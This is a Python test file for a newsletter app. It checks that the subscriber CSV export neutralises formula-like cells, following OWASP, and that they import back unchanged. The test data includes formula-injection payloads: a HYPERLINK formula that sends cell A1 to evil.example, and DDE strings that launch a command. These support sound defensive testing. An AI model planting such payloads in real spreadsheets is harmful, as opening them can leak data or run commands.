"""CSV export is safe to open in a spreadsheet (OWASP's rule), and imports back unchanged."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from newsletter.models import EventSource
from newsletter.subscriber_csv import FORMULA_START, neutralise, parse_subscriber_csv, restore
from newsletter.subscriptions import add_subscriber

SECRET = "test-secret-key-not-for-production"
HOSTILE = [
    ("=cmd@example.org", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+x@example.org", "+1+cmd|' /C calc'!A0"),
    ("-y@example.org", "-2+3"),
    ("z@example.org", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("plain@example.org", "O'Brien"),
    ("quote@example.org", "'=already quoted"),
]


def test_export_neutralises_formula_cells(cli, session: Session, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Scenario: names and addresses like formulas export as text and import back as typed."""
    for email, name in HOSTILE:
        add_subscriber(
            session, SECRET, email, "be", name=name, confirmed=True, source=EventSource.staff
        )
    session.commit()
    out = tmp_path / "export.csv"
    result = cli("subscribers", "export", str(out))
    assert result.returncode == 0, result.stderr
    text = out.read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    rows = {row[0]: row[1] for row in csv.reader(text.splitlines()[1:])}
    assert rows["'=cmd@example.org"] == "'" + HOSTILE[0][1]
    assert rows["z@example.org"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["plain@example.org"] == "O'Brien"
    # Read back, every value is what was typed.
    parsed = parse_subscriber_csv(text)
    assert not parsed.rejected
    assert sorted((r.email, r.name) for _, r in parsed.rows) == sorted(HOSTILE)


@pytest.mark.parametrize(
    "value", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "'x", "a=1", "", "'"]
)
def test_neutralise_round_trips(value: str) -> None:
    """Scenario: every formula start gets an apostrophe; restore gives back the original."""
    cell = neutralise(value)
    assert not cell.startswith(FORMULA_START)
    assert restore(cell) == value
